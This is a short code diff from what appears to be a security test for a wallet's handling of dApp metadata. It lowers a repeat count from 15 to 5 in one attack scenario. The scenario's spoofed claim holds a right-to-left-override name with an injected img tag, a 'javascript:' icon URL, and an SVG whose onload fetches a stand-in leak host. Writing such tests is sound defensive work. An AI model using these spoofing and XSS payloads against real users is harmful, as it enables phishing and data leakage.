@@ -103,7 +103,7 @@ export const claimRows: readonly Scenario[] = [
     attack: async (ground) => {
       const leak = `${ground.stage.urls.stranger}/leak`
       const lies = claim({
-        name: `bank.example‮ <img src="${leak}/name" id="evil">\n\n${'Verified '.repeat(15)}`,
+        name: `bank.example‮ <img src="${leak}/name" id="evil">\n\n${'Verified '.repeat(5)}`,
         icons: [`${leak}/icon`, 'javascript:alert(1)', `data:image/svg+xml,<svg onload="fetch('${leak}/svg')"/>`],
       })
       const seen = await look(ground, [['SYNC_DAPP_DATA', lies]], personalSign('x', ground.visitor.address), () => ({
